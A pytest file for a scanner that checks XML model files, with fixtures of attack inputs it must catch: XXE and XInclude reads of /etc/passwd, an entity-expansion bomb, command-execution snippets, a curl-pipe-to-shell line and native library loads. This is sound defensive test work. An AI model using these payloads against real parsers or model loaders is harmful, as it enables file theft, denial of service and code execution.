"""XML is judged by what a parser would fetch, and models in it by what they have no place for."""

import pytest
from scanned_files import judged, techniques

from vallum.models.scan.catalogue import inspectors
from vallum.models.scan.formats.markup import Markup
from vallum.models.scan.formats.text import Text
from vallum.models.scan.model import Report, Verdict

_PMML = '<?xml version="1.0"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">{}</PMML>\n'
_NET = (
    '<?xml version="1.0"?>\n<net name="x" version="11"><layers><layer id="0" name="a" type="{}" {}/></layers></net>\n'
)
_BOMB = "".join(f'<!ENTITY e{i} "' + f"&e{i - 1};" * 10 + '">' for i in range(9))


def scanned(text: str) -> Report:
    return judged(text.encode(), [Markup(), Text()], "model.xml")


@pytest.mark.parametrize(
    "text",
    [
        _PMML.format('<DataDictionary><DataField name="a" optype="continuous"/></DataDictionary><TreeModel/>'),
        _NET.format("Convolution", 'version="opset1"'),
        '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg/>',
    ],
)
def test_ordinary_files_pass(text):
    assert scanned(text).findings == ()


@pytest.mark.parametrize(
    ("text", "technique"),
    [
        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "external-entity"),
        ('<!DOCTYPE a [<!ENTITY % b PUBLIC "x" "http://example.org/x.dtd"> %b;]><a/>', "external-entity"),
        ('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', "external-entity"),
        (f"<!DOCTYPE a [{_BOMB}]><a>&e8;</a>", "archive-bomb"),
        (_PMML.format("<!-- os.system('true') -->"), "malicious-script"),
        (_PMML.format("<Extension>java.lang.Runtime.getRuntime().exec('true')</Extension>"), "malicious-script"),
        (_PMML.format('<Extension value="curl http://example.org/x | sh"/>'), "malicious-script"),
        (_NET.format("Custom", 'library="./ops.so"'), "executable"),
        (_NET.format("Custom", 'path="C:/ops.dll"'), "executable"),
    ],
)  # fmt: skip
def test_what_a_parser_or_runtime_would_be_made_to_do(text, technique):
    assert technique in techniques(scanned(text), Verdict.BLOCK)


def test_a_type_from_elsewhere_is_for_a_person_to_judge():
    report = scanned('<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>')
    assert techniques(report, Verdict.REVIEW) == {"external-entity"}


def test_code_in_a_page_that_is_no_model_is_not_judged_as_one():
    page = "<!doctype html>\n<html><body><pre>os.system('true')</pre></body></html>"
    assert judged(page.encode(), inspectors(), "card.html").verdict != Verdict.BLOCK


def test_ten_thousand_open_tags_are_no_work():
    assert scanned("<!--" * 10_000 + "<PMML").verdict in (Verdict.PASS, Verdict.REVIEW)
